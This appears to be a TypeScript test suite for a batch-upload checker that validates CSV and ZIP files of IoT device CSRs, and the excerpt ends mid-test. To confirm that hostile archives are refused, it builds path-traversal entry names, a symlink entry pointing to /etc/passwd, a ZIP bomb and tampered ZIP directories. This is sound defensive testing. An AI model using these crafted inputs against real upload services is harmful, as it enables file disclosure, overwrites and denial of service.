import { gzipSync } from "node:zlib";
import { parse } from "csv-parse/sync";
import { Zip, ZipDeflate } from "fflate";
import { beforeAll, describe, expect, it } from "vitest";
import {
  BATCH_FILE_LIMITS,
  type BatchFileRules,
  type BatchFileSummary,
  checkBatchFile,
  CsvNeutraliser,
  neutraliseCsv,
  neutraliseCsvCell,
} from "../../src/batch-file/check.js";
import { type BatchFileProblem, InvalidBatchFileError } from "../../src/model/errors.js";
import type { EnrollmentField } from "../../src/model/iot/profile.js";
import { iotBatchFileRules } from "../../src/resolvers/iot-batch.js";
import { generateCsr, tamperedCsr } from "../helpers/pki.js";

// Every key and CSR is generated at test time; every file is built in memory (large ones chunk by chunk).

const MIB = 1024 * 1024;

const CLIENT_SIDE: BatchFileRules = {
  requiredColumns: ["device_name", "subject.common_name", "csr"],
  knownColumns: [
    "device_name",
    "device_description",
    "subject.common_name",
    "subject.organization_unit",
    "san.dns_name",
  ],
  multipleColumns: new Set(["subject.organization_unit", "san.dns_name"]),
  serverSideKeyGeneration: false,
  ...BATCH_FILE_LIMITS,
};
const SERVER_SIDE: BatchFileRules = {
  ...CLIENT_SIDE,
  requiredColumns: ["device_name", "subject.common_name"],
  serverSideKeyGeneration: true,
};

interface TestFile {
  readonly size: number;
  stream(): ReadableStream<Uint8Array>;
}

/**
 * A file whose chunks come from `chunks` as they are read. Like a real upload it yields to the event loop before each
 * chunk (so memory can be sampled meanwhile); `state.cancelled` tells whether the reader stopped early.
 */
function fileFrom(
  size: number,
  chunks: () => AsyncIterable<Uint8Array>,
  state = { cancelled: false },
): TestFile {
  return {
    size,
    stream() {
      const source = chunks()[Symbol.asyncIterator]();
      return new ReadableStream<Uint8Array>({
        async pull(controller) {
          await new Promise(setImmediate);
          const next = await source.next();
          if (next.done) controller.close();
          else controller.enqueue(next.value);
        },
        async cancel() {
          state.cancelled = true;
          await source.return?.();
        },
      });
    },
  };
}

/** A file holding `data`, read in chunks of `chunkBytes`. */
function fileOf(data: string | Uint8Array, chunkBytes = 64 * 1024): TestFile {
  const bytes = typeof data === "string" ? Buffer.from(data) : data;
  return fileFrom(bytes.length, async function* () {
    for (let at = 0; at < bytes.length; at += chunkBytes) yield bytes.subarray(at, at + chunkBytes);
  });
}

function csv(rows: readonly (readonly string[])[], lineEnd = "\n"): string {
  const cell = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
  return rows.map((row) => row.map(cell).join(",")).join(lineEnd) + lineEnd;
}

/** A ZIP of `entries`, deflated, built with fflate's streaming Zip (data descriptors, as streaming tools write). */
function zipOf(entries: readonly (readonly [string, string | Uint8Array])[]): Buffer {
  const chunks: Uint8Array[] = [];
  const zip = new Zip((error, data) => {
    if (error) throw error;
    chunks.push(data);
  });
  for (const [name, content] of entries) {
    const entry = new ZipDeflate(name, { level: 6 });
    zip.add(entry);
    entry.push(typeof content === "string" ? Buffer.from(content) : content, true);
  }
  zip.end();
  return Buffer.concat(chunks);
}

/** The problems checkBatchFile refused `file` with; fails the test if it passed or threw anything else. */
async function problemsOf(file: TestFile, rules: BatchFileRules): Promise<readonly BatchFileProblem[]> {
  const error = await refusal(file, rules);
  return error.problems;
}

async function refusal(file: TestFile, rules: BatchFileRules): Promise<InvalidBatchFileError> {
  const outcome = await checkBatchFile(file, rules).then(
    (summary) => summary,
    (error: unknown) => error,
  );
  expect(outcome).toBeInstanceOf(InvalidBatchFileError);
  return outcome as InvalidBatchFileError;
}

function whole(message: string): BatchFileProblem {
  return { row: null, column: null, entry: null, message };
}

/** Runs `check`, sampling RSS every few milliseconds; the growth is the peak over the RSS before, in MiB. */
async function withPeakRss<T>(check: () => Promise<T>): Promise<{ outcome: T; growthMiB: number }> {
  const before = process.memoryUsage().rss;
  let peak = before;
  const sample = () => {
    peak = Math.max(peak, process.memoryUsage().rss);
  };
  const timer = setInterval(sample, 5);
  try {
    const outcome = await check();
    sample();
    return { outcome, growthMiB: (peak - before) / MIB };
  } finally {
    clearInterval(timer);
  }
}

let csrs: string[] = [];
let tampered = "";

beforeAll(async () => {
  csrs = await Promise.all(
    Array.from({ length: 10 }, (_, index) => generateCsr({ subject: `CN=device-${index + 1}.example.com` })),
  ).then((generated) => generated.map((each) => each.pem));
  tampered = await tamperedCsr();
});

/** A client-side CSV: one row per CSR (multi-line PEM cells, quoted). */
function clientCsv(pems: readonly string[] = csrs, lineEnd = "\n"): string {
  return csv(
    [
      ["device_name", "subject.common_name", "csr"],
      ...pems.map((pem, index) => [`device-${index + 1}`, `device-${index + 1}.example.com`, pem]),
    ],
    lineEnd,
  );
}

describe("checkBatchFile on a CSV", () => {
  it("accepts a client-side CSV of 10 devices, each with a CSR whose signature verifies", async () => {
    await expect(checkBatchFile(fileOf(clientCsv()), CLIENT_SIDE)).resolves.toEqual({
      format: "CSV",
      rows: 10,
    });
  });

  it("accepts a server-side CSV without a csr column, with repeated multi-valued columns", async () => {
    const data = csv([
      ["Device_Name", " subject.common_name ", "san.dns_name", "san.dns_name"],
      ["device-1", "device-1.example.com", "a.example.com", ""],
      ["device-2", "device-2.example.com", "", ""],
    ]);
    await expect(checkBatchFile(fileOf(data), SERVER_SIDE)).resolves.toEqual({ format: "CSV", rows: 2 });
  });

  it("refuses a client-side CSV without a csr column", async () => {
    const data = csv([
      ["device_name", "subject.common_name"],
      ["device-1", "device-1.example.com"],
    ]);
    expect(await problemsOf(fileOf(data), CLIENT_SIDE)).toEqual([
      {
        row: null,
        column: "csr",
        entry: null,
        message:
          "The header has no csr column, which client-side key generation needs (one PEM CSR per row).",
      },
    ]);
  });

  it("refuses a csr column when DigiCert generates the keys", async () => {
    const problems = await problemsOf(fileOf(clientCsv()), SERVER_SIDE);
    expect(problems).toEqual([expect.objectContaining({ row: null, column: "csr", entry: null })]);
    expect(problems[0]?.message).toMatch(/server-side key generation/);
  });

  it("names each required template column the header lacks", async () => {
    const data = csv([["csr"], [csrs[0]!]]);
    const problems = await problemsOf(fileOf(data), CLIENT_SIDE);
    expect(problems.map((each) => each.column)).toEqual(["device_name", "subject.common_name"]);
    expect(problems[1]?.message).toBe(
      "The header has no subject.common_name column, which the template requires.",
    );
  });

  it("refuses unknown, empty and repeated single-valued header cells without repeating unknown names", async () => {
    const data = csv([
      ["device_name", "subject.common_name", "csr", "secret_column", "", "device_name"],
      ["device-1", "device-1.example.com", csrs[0]!, "x", "y", "z"],
    ]);
    const problems = await problemsOf(fileOf(data), CLIENT_SIDE);
    expect(problems.map(({ row, column }) => ({ row, column }))).toEqual([
      { row: null, column: null },
      { row: null, column: "device_name" },
      { row: null, column: null },
    ]);
    expect(problems.map((each) => each.message).join(" ")).not.toContain("secret_column");
  });

  it("names row 7 and column csr when that row's CSR signature does not verify", async () => {
    const pems = csrs.map((pem, index) => (index === 6 ? tampered : pem));
    const error = await refusal(fileOf(clientCsv(pems)), CLIENT_SIDE);
    expect(error.problems).toEqual([
      {
        row: 7,
        column: "csr",
        entry: null,
        message: "The CSR's signature does not verify against its public key.",
      },
    ]);
    expect(error.message.startsWith("Row 7, column csr:")).toBe(true);
    expect(error.message).not.toContain("BEGIN");
  });

  it("refuses a csr cell that is not PEM without repeating the cell", async () => {
    const pems = csrs.map((pem, index) => (index === 2 ? "my-secret-device-key" : pem));
    const problems = await problemsOf(fileOf(clientCsv(pems)), CLIENT_SIDE);
    expect(problems).toEqual([expect.objectContaining({ row: 3, column: "csr", entry: null })]);
    expect(problems[0]?.message).toMatch(/^The CSR is invalid: /);
    expect(problems[0]?.message).not.toContain("my-secret");
  });

  it("accepts a single-line csr cell whose line breaks are written as \\n", async () => {
    const data = csv([
      ["device_name", "subject.common_name", "csr"],
      ["device-1", "device-1.example.com", csrs[0]!.trim().replaceAll("\n", "\\n")],
    ]);
    await expect(checkBatchFile(fileOf(data), CLIENT_SIDE)).resolves.toEqual({ format: "CSV", rows: 1 });
  });

  it("names the row and column of an empty required cell", async () => {
    const data = csv([
      ["device_name", "subject.common_name"],
      ["device-1", "device-1.example.com"],
      ["device-2", "   "],
    ]);
    expect(await problemsOf(fileOf(data), SERVER_SIDE)).toEqual([
      {
        row: 2,
        column: "subject.common_name",
        entry: null,
        message: "The subject.common_name cell is empty; the template requires a value.",
      },
    ]);
  });

  it("names a row whose cell count differs from the header's", async () => {
    const data = "device_name,subject.common_name\ndevice-1,device-1.example.com\ndevice-2\n";
    expect(await problemsOf(fileOf(data), SERVER_SIDE)).toEqual([
      { row: 2, column: null, entry: null, message: "The row has 1 cells; the header has 2." },
    ]);
  });

  it("reports an unclosed quote as a problem naming the row, not as a parser error", async () => {
    const data =
      'device_name,subject.common_name\ndevice-1,device-1.example.com\ndevice-2,"device-2.example.com\n';
    expect(await problemsOf(fileOf(data), SERVER_SIDE)).toEqual([
      { row: 2, column: null, entry: null, message: "A quoted cell is never closed (line 3)." },
    ]);
  });

  it("refuses more data rows than maxRows", async () => {
    const data = csv([
      ["device_name", "subject.common_name"],
      ...Array.from({ length: 4 }, () => ["d", "d"]),
    ]);
    expect(await problemsOf(fileOf(data), { ...SERVER_SIDE, maxRows: 3 })).toEqual([
      whole("The CSV has more than 3 rows."),
    ]);
  });

  it("refuses a CSV with a header row and no rows", async () => {
    expect(await problemsOf(fileOf("device_name,subject.common_name\r\n\r\n"), SERVER_SIDE)).toEqual([
      whole("The CSV has a header row and no rows."),
    ]);
  });

  it("refuses an empty file", async () => {
    expect(await problemsOf(fileOf(""), SERVER_SIDE)).toEqual([whole("The data file is empty.")]);
  });

  it("refuses a file over maxBytes before reading any of it", async () => {
    const file = {
      size: 200 * MIB + 1,
      stream(): ReadableStream<Uint8Array> {
        throw new Error("a file over the cap must not be read");
      },
    };
    expect(await problemsOf(file, SERVER_SIDE)).toEqual([
      whole("The data file is larger than 200 MiB, the most DigiCert accepts."),
    ]);
  });

  it("refuses a file whose bytes outrun maxBytes whatever its size said", async () => {
    const data = csv([
      ["device_name", "subject.common_name"],
      ...Array.from({ length: 100 }, () => ["d", "d"]),
    ]);
    const file = { ...fileOf(data), size: 10 };
    expect(await problemsOf(file, { ...SERVER_SIDE, maxBytes: 100 })).toEqual([
      whole("The data file is larger than 100 bytes, the most DigiCert accepts."),
    ]);
  });

  it("refuses a binary file that is neither a CSV nor a ZIP", async () => {
    const problems = await problemsOf(
      fileOf(new Uint8Array([0xff, 0xfe, 0x64, 0x00, 0x65, 0x00])),
      SERVER_SIDE,
    );
    expect(problems).toEqual([expect.objectContaining({ row: null, entry: null })]);
    expect(problems[0]?.message).toMatch(/neither a CSV nor a ZIP/);
  });

  it("stops after maxProblems problems and cancels the stream", async () => {
    const state = { cancelled: false };
    let produced = 0;
    const rowCount = 200_000;
    const file = fileFrom(
      10 * MIB,
      async function* () {
        yield Buffer.from("device_name,subject.common_name\n");
        for (let row = 0; row < rowCount; row += 1000) {
          produced += 1000;
          yield Buffer.from(",nameless.example.com\n".repeat(1000));
        }
      },
      state,
    );
    const problems = await problemsOf(file, { ...SERVER_SIDE, maxProblems: 5 });
    expect(problems.map((each) => [each.row, each.column])).toEqual(
      [1, 2, 3, 4, 5].map((row) => [row, "device_name"]),
    );
    expect(state.cancelled).toBe(true);
    expect(produced).toBeLessThan(rowCount);
  });

  it("accepts a UTF-8 BOM and CRLF line ends", async () => {
    const data = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from(clientCsv(csrs.slice(0, 3), "\r\n")),
    ]);
    await expect(checkBatchFile(fileOf(data), CLIENT_SIDE)).resolves.toEqual({ format: "CSV", rows: 3 });
  });

  it("accepts quoted multi-line PEM cells split across the stream's chunks", async () => {
    const data = Buffer.from(clientCsv());
    const file = fileFrom(data.length, async function* () {
      for (let at = 0; at < data.length; at += 100) yield data.subarray(at, at + 100);
    });
    await expect(checkBatchFile(file, CLIENT_SIDE)).resolves.toEqual({ format: "CSV", rows: 10 });
  });

  it("accepts a 50 MiB server-side CSV streamed in bounded memory", async () => {
    // Rows of 80 bytes, each with its own 8-digit id, stamped into a copy of one 800-row block (little garbage).
    const header = "device_name,subject.common_name,device_description\n";
    const line = "device-00000000,device-00000000.example.com,Fleet device".padEnd(79, ".") + "\n";
    const block = Buffer.from(line.repeat(800));
    const rowCount = 800 * Math.ceil((50 * MIB) / block.length);
    const file = fileFrom(header.length + (rowCount / 800) * block.length, async function* () {
      yield Buffer.from(header);
      for (let first = 1; first <= rowCount; first += 800) {
        const chunk = Buffer.from(block);
        for (let row = 0; row < 800; row += 1) {
          const id = String(first + row).padStart(8, "0");
          chunk.write(id, row * line.length + 7, "latin1");
          chunk.write(id, row * line.length + 23, "latin1");
        }
        yield chunk;
      }
    });
    // A warm-up, so that one-time costs (compiling, first heap growth) are not measured below.
    await checkBatchFile(
      fileOf(Buffer.concat([Buffer.from(header), block, block, block, block])),
      SERVER_SIDE,
    );
    const { outcome, growthMiB } = await withPeakRss(() => checkBatchFile(file, SERVER_SIDE));
    expect(outcome).toEqual({ format: "CSV", rows: rowCount } satisfies BatchFileSummary);
    console.info(`50 MiB CSV: ${rowCount} rows, RSS growth ${growthMiB.toFixed(1)} MiB`);
    expect(growthMiB).toBeLessThan(48);
  });
});

describe("checkBatchFile on a ZIP", () => {
  it("accepts a ZIP of CSR files, skipping directories, __MACOSX/ and dot-files", async () => {
    const zip = zipOf([
      ["devices/", ""],
      ...csrs.map((pem, index) => [`devices/device-${index + 1}.csr`, pem] as const),
      ["__MACOSX/devices/._device-1.csr", "\u0000\u0005resource fork"],
      ["devices/.DS_Store", "\u0000\u0000\u0000\u0001Bud1"],
    ]);
    await expect(checkBatchFile(fileOf(zip), CLIENT_SIDE)).resolves.toEqual({ format: "ZIP", rows: 10 });
  });

  it("names the CSR file whose signature does not verify", async () => {
    const zip = zipOf([
      ["a.pem", csrs[0]!],
      ["b.req", tampered],
    ]);
    expect(await problemsOf(fileOf(zip), CLIENT_SIDE)).toEqual([
      {
        row: null,
        column: null,
        entry: "b.req",
        message: "The CSR's signature does not verify against its public key.",
      },
    ]);
  });

  it("accepts a ZIP holding one CSV, and names that entry in row problems", async () => {
    await expect(checkBatchFile(fileOf(zipOf([["devices.csv", clientCsv()]])), CLIENT_SIDE)).resolves.toEqual(
      {
        format: "ZIP",
        rows: 10,
      },
    );
    const bad = csv([
      ["device_name", "subject.common_name", "csr"],
      ["device-1", "device-1.example.com", csrs[0]!],
      ["", "device-2.example.com", csrs[1]!],
    ]);
    const error = await refusal(fileOf(zipOf([["devices.csv", bad]])), CLIENT_SIDE);
    expect(error.problems).toEqual([
      {
        row: 2,
        column: "device_name",
        entry: "devices.csv",
        message: "The device_name cell is empty; the template requires a value.",
      },
    ]);
    expect(error.message.startsWith('ZIP entry "devices.csv", row 2, column device_name:')).toBe(true);
  });

  it("refuses entries with unsafe names (path traversal), naming each", async () => {
    const zip = zipOf([
      ["../evil.csr", csrs[0]!],
      ["/abs.csr", csrs[1]!],
      ["a\\b.csr", csrs[2]!],
      ["C:/windows.csr", csrs[3]!],
      ["fine.csr", csrs[4]!],
    ]);
    const problems = await problemsOf(fileOf(zip), CLIENT_SIDE);
    expect(problems.map((each) => each.entry)).toEqual([
      "../evil.csr",
      "/abs.csr",
      "C:/windows.csr",
      "a\\b.csr",
    ]);
    for (const each of problems)
      expect(each.message).toMatch(/^The entry has an unsafe name \(path traversal\)/);
  });

  it("refuses a ZIP bomb by the bytes it actually inflates, in bounded memory", async () => {
    const chunks: Uint8Array[] = [];
    const zip = new Zip((error, data) => {
      if (error) throw error;
      chunks.push(data);
    });
    const entry = new ZipDeflate("devices.csv", { level: 9 });
    zip.add(entry);
    const zeros = new Uint8Array(MIB);
    for (let pushed = 1; pushed <= 300; pushed += 1) entry.push(zeros, pushed === 300);
    zip.end();
    const bomb = Buffer.concat(chunks);
    expect(bomb.length).toBeLessThan(MIB);

    // A small cap first (which also warms the code up, so that one-time costs are not measured below).
    expect((await problemsOf(fileOf(bomb, 4096), { ...CLIENT_SIDE, maxInflatedBytes: 16 * MIB }))[0]).toEqual(
      whole("The ZIP inflates to more than 16 MiB; refused (a ZIP bomb?)."),
    );
    const { outcome, growthMiB } = await withPeakRss(() => problemsOf(fileOf(bomb, 4096), CLIENT_SIDE));
    expect(outcome[0]).toEqual(whole("The ZIP inflates to more than 256 MiB; refused (a ZIP bomb?)."));
    console.info(
      `ZIP bomb: ${(bomb.length / 1024).toFixed(0)} KiB -> 300 MiB, RSS growth ${growthMiB.toFixed(1)} MiB`,
    );
    expect(growthMiB).toBeLessThan(48);
  });

  it("refuses a ZIP with more entries than maxZipEntries", async () => {
    const zip = zipOf(csrs.slice(0, 4).map((pem, index) => [`device-${index}.csr`, pem] as const));
    expect(await problemsOf(fileOf(zip), { ...CLIENT_SIDE, maxZipEntries: 3 })).toEqual([
      whole("The ZIP has more than 3 entries."),
    ]);
  });

  it("refuses CSR files when DigiCert generates the keys", async () => {
    const zip = zipOf(csrs.slice(0, 3).map((pem, index) => [`device-${index}.csr`, pem] as const));
    const problems = await problemsOf(fileOf(zip), SERVER_SIDE);
    expect(problems).toEqual([expect.objectContaining({ entry: "device-0.csr" })]);
    expect(problems[0]?.message).toMatch(/client-side key generation/);
  });

  it("refuses a ZIP mixing a CSV with CSR files, other files, or a second CSV", async () => {
    const zip = zipOf([
      ["devices.csv", clientCsv(csrs.slice(0, 1))],
      ["device.csr", csrs[1]!],
      ["more.csv", clientCsv(csrs.slice(2, 3))],
      ["notes.txt", "hello"],
    ]);
    const problems = await problemsOf(fileOf(zip), CLIENT_SIDE);
    expect(problems.map((each) => each.entry)).toEqual(["device.csr", "more.csv", "notes.txt"]);
  });

  it("refuses a ZIP that holds no CSV or CSR files", async () => {
    expect(await problemsOf(fileOf(zipOf([["empty/", ""]])), CLIENT_SIDE)).toEqual([
      whole("The ZIP holds no CSV or CSR files."),
    ]);
  });

  it("refuses a corrupt, truncated, encrypted or unsupported-compression ZIP", async () => {
    const zip = zipOf([["device.csr", csrs[0]!]]);
    const truncated = zip.subarray(0, 200);
    const corrupt = Buffer.from(zip);
    corrupt.fill(0xff, 30 + "device.csr".length, 30 + "device.csr".length + 16);
    const encrypted = Buffer.from(zip);
    encrypted[6] = (encrypted[6] ?? 0) | 1;
    const bzip2 = Buffer.from(zip);
    bzip2.writeUInt16LE(12, 8);
    expect(await problemsOf(fileOf(truncated), CLIENT_SIDE)).toEqual([
      whole("The ZIP cannot be read: it is corrupt or truncated."),
    ]);
    expect(await problemsOf(fileOf(corrupt), CLIENT_SIDE)).toEqual([
      {
        row: null,
        column: null,
        entry: "device.csr",
        message: "The entry's compressed data is corrupt; the ZIP cannot be read.",
      },
    ]);
    expect(await problemsOf(fileOf(encrypted), CLIENT_SIDE)).toEqual([
      whole("The ZIP is encrypted; upload it without a password."),
    ]);
    expect(await problemsOf(fileOf(bzip2), CLIENT_SIDE)).toEqual([
      expect.objectContaining({ entry: "device.csr", message: expect.stringMatching(/cannot be read/) }),
    ]);
  });
});

// ---------------------------------------------------------------------------------------------
// ZIP entries that are not regular files, nested archives, formula cells, and CSV the gateway emits
// ---------------------------------------------------------------------------------------------

/** Unix file types, shifted into a ZIP's external attributes as Info-ZIP writes them. */
const UNIX = {
  file: 0o100644,
  directory: 0o040755,
  link: 0o120777,
  characterDevice: 0o020644,
  blockDevice: 0o060644,
  fifo: 0o010644,
  socket: 0o140755,
};
const attributes = (mode: number, dos = 0) => ((mode << 16) | dos) >>> 0;

interface Entry {
  name: string;
  data: string | Uint8Array;
  /** External attributes; made by Unix (os 3) when given. */
  attrs?: number;
}

/** A ZIP built with fflate's streaming Zip, each entry with its own external attributes (names may repeat). */
function zipEntries(entries: readonly Entry[]): Buffer {
  const chunks: Uint8Array[] = [];
  const zip = new Zip((error, data) => {
    if (error) throw error;
    chunks.push(data);
  });
  for (const { name, data, attrs } of entries) {
    const entry = new ZipDeflate(name, { level: 6 });
    if (attrs !== undefined) Object.assign(entry, { attrs, os: 3 });
    zip.add(entry);
    entry.push(typeof data === "string" ? Buffer.from(data) : data, true);
  }
  zip.end();
  return Buffer.concat(chunks);
}

/** The file as the gateway has it: a Blob (random access through slice). */
function blobOf(data: Uint8Array): Blob {
  return new Blob([new Uint8Array(data)]);
}

/** Offset of the central directory record of the `index`th entry (from 0). */
function centralRecord(zip: Buffer, index: number): number {
  let at = zip.readUInt32LE(zip.length - 22 + 16);
  for (let i = 0; i < index; i += 1) {
    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  expect(zip.readUInt32LE(at)).toBe(0x02014b50);
  return at;
}

describe("ZIP entries that are not regular files", () => {
  it("refuses a symbolic link by name, read from the external attributes' Unix mode, even one named like a CSR", async () => {
    const zip = zipEntries([
      { name: "device-1.csr", data: csrs[0]!, attrs: attributes(UNIX.file) },
      { name: "device-2.csr", data: "/etc/passwd", attrs: attributes(UNIX.link) },
    ]);
    expect(await problemsOf(blobOf(zip), CLIENT_SIDE)).toEqual([
      {
        row: null,
        column: null,
        entry: "device-2.csr",
        message:
          "The entry is a symbolic link; only regular files are accepted (a link can point outside the archive).",
      },
    ]);
  });

  it("refuses a directory posing as a file, device files, a FIFO and a socket, each by name with its reason", async () => {
    const zip = zipEntries([
      { name: "a-directory.csr", data: "", attrs: attributes(UNIX.directory, 0x10) },
      { name: "b-dos-directory.csr", data: "", attrs: 0x10 },
      { name: "c-character.csr", data: "", attrs: attributes(UNIX.characterDevice) },
      { name: "d-block.csr", data: "", attrs: attributes(UNIX.blockDevice) },
      { name: "e-fifo.csr", data: "", attrs: attributes(UNIX.fifo) },
      { name: "f-socket.csr", data: "", attrs: attributes(UNIX.socket) },
      { name: "g-whiteout.csr", data: "", attrs: attributes(0o160000) },
      { name: "h-fine.csr", data: csrs[0]!, attrs: attributes(UNIX.file) },
    ]);
    const problems = await problemsOf(blobOf(zip), CLIENT_SIDE);
    expect(problems.map(({ entry, message }) => [entry, message])).toEqual([
      [
        "a-directory.csr",
        "The entry is a directory, though its name does not end in /; only regular files are accepted.",
      ],
      [
        "b-dos-directory.csr",
        "The entry is a directory, though its name does not end in /; only regular files are accepted.",
      ],
      ["c-character.csr", "The entry is a device file (character device); only regular files are accepted."],
      ["d-block.csr", "The entry is a device file (block device); only regular files are accepted."],
      ["e-fifo.csr", "The entry is a named pipe (FIFO); only regular files are accepted."],
      ["f-socket.csr", "The entry is a socket; only regular files are accepted."],
      [
        "g-whiteout.csr",
        "The entry is not a regular file (Unix file type 0o160000); only regular files are accepted.",
      ],
    ]);
  });

  it("refuses a symbolic link even where entries are skipped (a dot-file, __MACOSX/, a directory name)", async () => {
    const zip = zipEntries([
      { name: "devices/", data: "", attrs: attributes(UNIX.link) },
      { name: "__MACOSX/._device.csr", data: "x", attrs: attributes(UNIX.link) },
      { name: ".hidden", data: "x", attrs: attributes(UNIX.link) },
      { name: "device.csr", data: csrs[0]! },
    ]);
    const problems = await problemsOf(blobOf(zip), CLIENT_SIDE);
    expect(problems.map((each) => each.entry)).toEqual([".hidden", "__MACOSX/._device.csr", "devices/"]);
    for (const each of problems) expect(each.message).toMatch(/^The entry is a symbolic link/);
  });

  it("accepts regular files and directories whatever the archiver recorded: a Unix mode, DOS attributes, or none", async () => {
    const zip = zipEntries([
      { name: "devices/", data: "", attrs: attributes(UNIX.directory, 0x10) },
      { name: "devices/unix.csr", data: csrs[0]!, attrs: attributes(UNIX.file) },
      { name: "devices/dos-archive-bit.csr", data: csrs[1]!, attrs: 0x20 },
      { name: "devices/none.csr", data: csrs[2]!, attrs: 0 },
      { name: "win/", data: "", attrs: 0x10 },
    ]);
    await expect(checkBatchFile(blobOf(zip), CLIENT_SIDE)).resolves.toEqual({ format: "ZIP", rows: 3 });
  });

  it("reads the central directory by range from a Blob, and from a source without slice by streaming, alike", async () => {
    const zip = zipEntries([
      { name: "devices.csv", data: clientCsv(csrs.slice(0, 2)), attrs: attributes(UNIX.file) },
      { name: "link.csv", data: "devices.csv", attrs: attributes(UNIX.link) },
    ]);
    const sliced = await problemsOf(blobOf(zip), CLIENT_SIDE);
    expect(sliced).toEqual([expect.objectContaining({ entry: "link.csv" })]);
    expect(await problemsOf(fileOf(zip, 7), CLIENT_SIDE)).toEqual(sliced);
  });

  it("reads the central directory past a ZIP comment", async () => {
    const zip = zipEntries([{ name: "device.csr", data: csrs[0]!, attrs: attributes(UNIX.link) }]);
    const comment = Buffer.from("made by a tool that writes comments");
    const commented = Buffer.concat([zip, comment]);
    commented.writeUInt16LE(comment.length, zip.length - 2);
    expect((await problemsOf(blobOf(commented), CLIENT_SIDE))[0]?.message).toMatch(/symbolic link/);
  });

  it("refuses an entry its central directory does not list, and one it lists that the archive does not hold", async () => {
    const zip = zipEntries([
      { name: "device-1.csr", data: csrs[0]! },
      { name: "device-2.csr", data: csrs[1]! },
    ]);
    // The index names the second entry device-3.csr: a reader of the index and a reader of the entries disagree.
    const at = centralRecord(zip, 1);
    zip.write("device-3.csr", at + 46, "latin1");
    const problems = await problemsOf(blobOf(zip), CLIENT_SIDE);
    expect(problems.map(({ entry, message }) => [entry, message])).toEqual([
      [
        "device-2.csr",
        "The entry is not listed in the ZIP's central directory (its index): ZIP readers would disagree on what the ZIP holds.",
      ],
      [
        "device-3.csr",
        "The ZIP's central directory (its index) lists this entry, but the archive holds no such entry: ZIP readers would disagree on what it holds.",
      ],
    ]);
  });

  it("refuses two entries with the same name, once", async () => {
    const zip = zipEntries([
      { name: "device.csr", data: csrs[0]! },
      { name: "device.csr", data: csrs[1]! },
      { name: "other.csr", data: csrs[2]! },
    ]);
    expect(await problemsOf(blobOf(zip), CLIENT_SIDE)).toEqual([
      {
        row: null,
        column: null,
        entry: "device.csr",
        message: "The ZIP holds 2 entries with this name; each entry needs a name of its own.",
      },
    ]);
  });

  it("refuses an entry its central directory marks as encrypted, without inflating it", async () => {
    const zip = zipEntries([
      { name: "device-1.csr", data: csrs[0]! },
      { name: "device-2.csr", data: csrs[1]! },
    ]);
    const at = centralRecord(zip, 1);
    zip.writeUInt16LE(zip.readUInt16LE(at + 8) | 1, at + 8);
    expect(await problemsOf(blobOf(zip), CLIENT_SIDE)).toEqual([
      {
        row: null,
        column: null,
        entry: "device-2.csr",
        message: "The entry is encrypted; upload the ZIP without a password.",
      },
    ]);
  });

  it("refuses a ZIP whose central directory is missing, corrupt, or on another disk", async () => {
    const zip = zipEntries([{ name: "device.csr", data: csrs[0]! }]);
    const noIndex = Buffer.from(zip);
    noIndex.writeUInt32LE(0, noIndex.length - 22);
    const badRecord = Buffer.from(zip);
    badRecord.writeUInt32LE(0x12345678, centralRecord(zip, 0));
    const spanned = Buffer.from(zip);
    spanned.writeUInt16LE(1, spanned.length - 22 + 4);
    for (const broken of [noIndex, badRecord]) {
      expect(await problemsOf(blobOf(broken), CLIENT_SIDE)).toEqual([
        whole("The ZIP cannot be read: it is corrupt or truncated."),
      ]);
    }
    expect(await problemsOf(blobOf(spanned), CLIENT_SIDE)).toEqual([
      whole("The ZIP is split across several files (a multi-disk archive); upload it as one ZIP."),
    ]);
  });
});

describe("nested archives", () => {
  it("refuses an entry named as an archive, naming it and its format", async () => {
    const zip = zipEntries([
      { name: "inner.zip", data: zipOf([["device.csr", csrs[0]!]]) },
      { name: "more.tar.gz", data: "not even gzip" },
      { name: "device.csr", data: csrs[1]! },
    ]);
    const problems = await problemsOf(blobOf(zip), CLIENT_SIDE);
    expect(problems.map(({ entry, message }) => [entry, message])).toEqual([
      [
        "inner.zip",
        "The entry is an archive (.zip, ZIP); nested archives are refused: put the CSV or CSR files in the uploaded ZIP itself.",
      ],
      [
        "more.tar.gz",
        "The entry is an archive (.gz, gzip); nested archives are refused: put the CSV or CSR files in the uploaded ZIP itself.",
      ],
    ]);
  });

  it("refuses a CSV or CSR entry whose first bytes are an archive's, whatever its name says", async () => {
    const tar = Buffer.alloc(1024);
    tar.write("device.csr", 0);
    tar.write("ustar\u000000", 257, "latin1");
    const sevenZip = Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, 1, 2, 3, 4]);
    const rar = Buffer.from("Rar!\u001a\u0007\u0001\u0000rest", "latin1");
    const zip = zipEntries([
      { name: "a.csr", data: zipOf([["device.csr", csrs[0]!]]) },
      { name: "b.pem", data: gzipSync(Buffer.from(csrs[1]!)) },
      { name: "c.req", data: tar },
      { name: "d.p10", data: sevenZip },
      { name: "e.csr", data: rar },
    ]);
    const problems = await problemsOf(blobOf(zip), CLIENT_SIDE);
    expect(
      problems.map(({ entry, message }) => [entry, /^The entry is an archive \((.+?)\)/.exec(message)?.[1]]),
    ).toEqual([
      ["a.csr", "ZIP"],
      ["b.pem", "gzip"],
      ["c.req", "tar"],
      ["d.p10", "7-Zip"],
      ["e.csr", "RAR"],
    ]);
    expect(problems[0]?.message).toMatch(/whatever its name says; nested archives are refused/);
  });

  it("refuses a ZIP whose one CSV is a gzip file, naming the entry and not reading it as a CSV", async () => {
    const zip = zipEntries([
      { name: "devices.csv", data: gzipSync(Buffer.from(clientCsv(csrs.slice(0, 2)))) },
    ]);
    expect(await problemsOf(blobOf(zip), CLIENT_SIDE)).toEqual([
      {
        row: null,
        column: null,
        entry: "devices.csv",
        message:
          "The entry is an archive (gzip), whatever its name says; nested archives are refused: put the CSV or CSR files in the uploaded ZIP itself.",
      },
    ]);
  });

  it("refuses a data file that is a gzip or 7-Zip archive rather than a CSV or a ZIP", async () => {
    expect(await problemsOf(fileOf(gzipSync(Buffer.from(clientCsv()))), CLIENT_SIDE)).toEqual([
      whole("The data file is an archive (gzip); upload a CSV, or a ZIP of one CSV or of CSR files."),
    ]);
    const sevenZip = Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]);
